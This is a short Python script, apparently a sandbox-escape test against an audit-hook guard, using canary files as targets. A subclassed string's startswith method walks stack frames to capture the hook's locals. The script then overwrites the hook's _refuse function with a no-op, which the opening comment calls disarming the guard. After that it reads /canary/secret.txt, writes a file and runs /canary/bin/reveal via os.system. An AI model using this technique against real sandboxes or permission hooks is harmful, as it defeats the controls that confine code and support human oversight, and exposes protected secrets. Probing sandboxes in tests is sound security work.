# READ+WRITE+EXEC: grab the hook's _refuse helper via its frame and replace its __code__ with a no-op (object.__setattr__ is 'harmless') -> guard disarmed
import sys
cap = {}
class S(str):
    def startswith(self, *a):
        f = sys._getframe(1)
        while f is not None:
            if f.f_code.co_name == 'hook': cap.update(f.f_locals)
            f = f.f_back
        return str.startswith(self, *a)
try: sys.modules['codecs'].open(S('/scripts/main.py')).close()
except Exception as e: print(repr(e))
def nop(*a, **k): return None
cap['_refuse'].__code__ = nop.__code__
print(open('/canary/secret.txt').read())
open('/canary/out/by_refuse_swap.txt', 'w').write('x')
import os
sys.stdout.flush()
os.system('/canary/bin/reveal')
